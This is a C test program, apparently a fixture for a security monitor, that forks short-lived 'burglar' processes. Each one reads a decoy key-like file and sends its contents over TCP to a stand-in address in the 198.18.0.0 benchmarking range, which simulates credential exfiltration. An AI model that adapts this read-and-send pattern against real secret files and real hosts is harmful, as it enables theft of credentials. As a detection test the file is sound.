/* SPDX-License-Identifier: GPL-2.0-or-later */

/* A series of thefts by short-lived processes: burglar DIRECTORY COUNT PARALLEL PORT. Child n opens its own
 * decoy DIRECTORY/id_run_NNNN and sends it to its own address, 198.18.0.0 + n + 1 (RFC 2544). Prints "n pid"
 * for each child that exited successfully; at most PARALLEL run at one time. */

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define FIRST_ADDRESS 0xc6120001U /* 198.18.0.1 */
#define COUNT_MAX 100000

static pid_t pids[COUNT_MAX];

static int burgle(const char *directory, unsigned n, unsigned short port) {
        struct sockaddr_in to = {
                .sin_family = AF_INET,
                .sin_port = htons(port),
                .sin_addr.s_addr = htonl(FIRST_ADDRESS + n),
        };
        char path[4096], secret[4096];
        ssize_t size;
        int fd;

        snprintf(path, sizeof(path), "%s/id_run_%04u", directory, n);
        fd = open(path, O_RDONLY);
        if (fd < 0 || (size = read(fd, secret, sizeof(secret))) <= 0)
                return 1;
        fd = socket(AF_INET, SOCK_STREAM, 0);
        if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0)
                return 2;
        return write(fd, secret, (size_t)size) == size ? 0 : 3;
}

static int child_reap(unsigned count) {
        int status;
        pid_t pid = wait(&status);

        if (pid < 0)
                return -errno;
        for (unsigned n = 0; n < count; n++)
                if (pids[n] == pid) {
                        /* The PID may be reused: only a running child owns it. */
                        pids[n] = 0;
                        if (!WIFEXITED(status) || WEXITSTATUS(status) != 0) {
                                fprintf(stderr, "burglar %u: status %#x\n", n, (unsigned)status);
                                return -EIO;
                        }
                        printf("%u %d\n", n, pid);
                        return 0;
                }
        return -ECHILD;
}

int main(int argc, char **argv) {
        unsigned count, parallel, living = 0;

        if (argc != 5) {
                fprintf(stderr, "usage: %s DIRECTORY COUNT PARALLEL PORT\n", argv[0]);
                return 2;
        }
        count = (unsigned)atoi(argv[2]);
        parallel = (unsigned)atoi(argv[3]);
        if (count > COUNT_MAX || parallel < 1)
                return 2;
        for (unsigned n = 0; n < count; n++) {
                if (living == parallel) {
                        if (child_reap(count) < 0)
                                return 1;
                        living--;
                }
                fflush(stdout);
                pids[n] = fork();
                if (pids[n] < 0)
                        return 1;
                if (pids[n] == 0)
                        _exit(burgle(argv[1], n, (unsigned short)atoi(argv[4])));
                living++;
        }
        while (living-- > 0)
                if (child_reap(count) < 0)
                        return 1;
        return 0;
}
